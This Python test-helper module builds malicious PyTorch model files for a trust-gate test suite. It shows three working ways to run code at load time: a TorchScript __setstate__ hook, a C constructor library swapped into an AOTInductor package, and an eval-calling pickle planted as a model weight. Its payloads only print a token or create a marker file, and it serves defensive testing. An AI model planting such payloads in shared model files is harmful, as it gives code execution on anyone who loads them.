"""Builders of real malicious model files, for the trust-gate tests (tests/test_trust.py).

Each file runs something its author wrote when a torch loader opens it:

* TorchScript: a scripted module's ``__setstate__`` is part of the program and runs inside
  ``torch.jit.load`` (``torch._C.import_ir_module``); it prints :data:`TORCHSCRIPT_TOKEN`
  (TorchScript's ``print`` goes through torch's print handler to Python's ``sys.stdout``).
* AOTInductor ``.pt2``: the package's ``*.wrapper.so`` is swapped for a library whose
  ``__attribute__((constructor))`` creates the file named by ``$XCAM_MARKER``; the loader
  (``torch._C._aoti.AOTIModelPackageLoader``) extracts the library and dlopens it, and
  the constructor runs before the loader looks for the symbols it wants.
* ExportedProgram ``.pt2`` (``torch.export.save``): a weight is marked ``use_pickle`` and
  replaced by a pickle whose ``__reduce__`` creates ``$XCAM_MARKER`` and then returns the
  tensor the loader expected; ``torch.export.pt2_archive._package._load_state_dict``
  unpickles it with ``weights_only=False``, and the program loads and works as if nothing
  happened. (``data/sample_inputs/model.pt`` is another way in:
  ``torch._export.serde.serialize.deserialize_torch_artifact`` retries a failed
  ``weights_only=True`` load with ``weights_only=False``.)

The marker path is read from the environment when the payload runs, so one build serves
every test; the builders themselves never run a payload.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import warnings
import zipfile
from pathlib import Path

import torch
from torch import nn

MARKER_ENV = "XCAM_MARKER"
TORCHSCRIPT_TOKEN = "XCAM-PWNED-TORCHSCRIPT"

EVIL_C = r"""
#include <stdio.h>
#include <stdlib.h>

__attribute__((constructor)) static void xcam_pwned(void) {
    const char *marker = getenv("XCAM_MARKER");
    if (marker != NULL) {
        FILE *f = fopen(marker, "w");
        if (f != NULL) {
            fputs("XCAM-PWNED-AOTI\n", f);
            fclose(f);
        }
    }
}
"""


class _EvilScript(nn.Module):
    """A working TorchScript module whose unpickling (``__setstate__``) prints a token."""

    def __init__(self) -> None:
        super().__init__()
        self.w = torch.zeros(2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + self.w

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
        print("XCAM-PWNED-TORCHSCRIPT")  # the payload: any TorchScript could run here
        self.w = state[0]
        self.training = state[1]


class _Tiny(nn.Module):
    """The innocent model the .pt2 files are made from."""

    def __init__(self) -> None:
        super().__init__()
        self.lin = nn.Linear(2, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.lin(x)


class _Payload:
    """Unpickling this creates ``$XCAM_MARKER``, then evaluates to ``value`` (Python source)."""

    def __init__(self, value: str) -> None:
        self.value = value

    def __reduce__(self) -> tuple:
        touch = f"__import__('pathlib').Path(__import__('os').environ[{MARKER_ENV!r}]).touch()"
        return (eval, (f"{touch} or {self.value}",))


def build_torchscript(path: Path) -> Path:
    """A scripted module that prints :data:`TORCHSCRIPT_TOKEN` at ``torch.jit.load``."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch.jit is deprecated upstream
        torch.jit.save(torch.jit.script(_EvilScript()), str(path))
    return path


def c_compiler() -> str | None:
    """gcc, or cc, or None."""
    return shutil.which("gcc") or shutil.which("cc")


def build_library(path: Path) -> Path:
    """A shared library whose constructor creates ``$XCAM_MARKER`` (no other symbols)."""
    compiler = c_compiler()
    if compiler is None:
        raise RuntimeError("no C compiler (gcc or cc)")
    src = path.with_suffix(".c")
    src.write_text(EVIL_C)
    subprocess.run([compiler, "-shared", "-fPIC", "-o", str(path), str(src)], check=True)
    return path


def build_real_aoti_package(path: Path) -> Path:
    """A genuine AOTInductor package of a tiny model (``aoti_compile_and_package``)."""
    program = torch.export.export(_Tiny().eval(), (torch.zeros(1, 2),))
    torch._inductor.aoti_compile_and_package(program, package_path=str(path))
    return path


def plant_library(package: Path, library: Path, path: Path) -> Path:
    """``package`` with every shared library inside replaced by ``library``."""
    lib = library.read_bytes()
    with zipfile.ZipFile(package) as src, zipfile.ZipFile(path, "w") as dst:
        names = src.namelist()
        if not any(n.endswith(".so") for n in names):
            raise ValueError(f"{package} holds no shared library: {names}")
        for name in names:
            dst.writestr(name, lib if name.endswith(".so") else src.read(name))
    return path


def build_minimal_aoti_package(library: Path, path: Path) -> Path:
    """The least zip that ``torch._inductor.aoti_load_package`` extracts and dlopens: the
    library as ``<archive>/data/aotinductor/model/<name>.wrapper.so`` beside its
    ``<name>.wrapper_metadata.json`` (without that file the loader stops before dlopen);
    ``.data/version`` is for ``torch.export.load``, which reads it first."""
    folder = "evil/data/aotinductor/model"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("evil/archive_format", "pt2")
        z.writestr("evil/archive_version", "0")
        z.writestr("evil/.data/version", "6\n")  # torch's zip reader wants it (export.load)
        z.writestr(f"{folder}/x.wrapper.so", library.read_bytes())
        z.writestr(f"{folder}/x.wrapper_metadata.json", json.dumps({"AOTI_DEVICE_KEY": "cpu"}))
    return path


def _pickled(payload: _Payload) -> bytes:
    buffer = io.BytesIO()
    torch.save(payload, buffer)
    return buffer.getvalue()


def build_exported_program(path: Path) -> Path:
    """``torch.export.save`` of a tiny model with a pickled payload planted in its weights:
    ``data/weights/model_weights_config.json`` marks ``lin.weight`` ``use_pickle: true``
    and its ``data/weights/weight_N`` entry becomes the payload, which
    ``torch.export.pt2_archive._package._load_state_dict`` reads with
    ``torch.load(..., weights_only=False)``. ``torch.export.load`` then returns a working
    program: nothing shows that the payload ran but the marker."""
    model = _Tiny().eval()
    buffer = io.BytesIO()
    torch.export.save(torch.export.export(model, (torch.zeros(1, 2),)), buffer)
    with zipfile.ZipFile(buffer) as src:
        entries = {name: src.read(name) for name in src.namelist()}
    (cfg_name,) = [n for n in entries if n.endswith("data/weights/model_weights_config.json")]
    cfg = json.loads(entries[cfg_name])
    meta = cfg["config"]["lin.weight"]
    meta["use_pickle"] = True
    entries[cfg_name] = json.dumps(cfg).encode()
    weight = cfg_name.rsplit("/", 1)[0] + "/" + meta["path_name"]
    shape = list(model.lin.weight.shape)
    value = f"__import__('torch').nn.Parameter(__import__('torch').zeros({shape}))"
    entries[weight] = _pickled(_Payload(value))
    with zipfile.ZipFile(path, "w") as dst:
        for name, data in entries.items():
            dst.writestr(name, data)
    return path
